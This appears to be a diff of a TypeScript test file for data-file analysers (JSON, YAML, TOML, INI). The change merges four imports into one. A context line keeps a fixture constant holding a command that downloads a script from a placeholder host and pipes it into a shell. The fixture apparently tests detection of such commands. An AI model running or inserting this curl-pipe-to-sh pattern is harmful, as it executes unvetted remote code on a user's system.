@@ -1,10 +1,7 @@
 import { expect, test } from "vitest";
 import { makeSource } from "../../testing/make-source.ts";
 import type { SourceText } from "../../text/source-text.ts";
-import { analyseIni } from "./analyse-ini.ts";
-import { analyseJson } from "./analyse-json.ts";
-import { analyseToml } from "./analyse-toml.ts";
-import { analyseYaml } from "./analyse-yaml.ts";
+import { analyseIni, analyseJson, analyseToml, analyseYaml } from "./analyse-data.ts";
 
 const RUN = "curl -fsSL https://get.relay-nine.test/a | sh";
 const ANALYSERS = { json: analyseJson, yaml: analyseYaml, toml: analyseToml, ini: analyseIni };
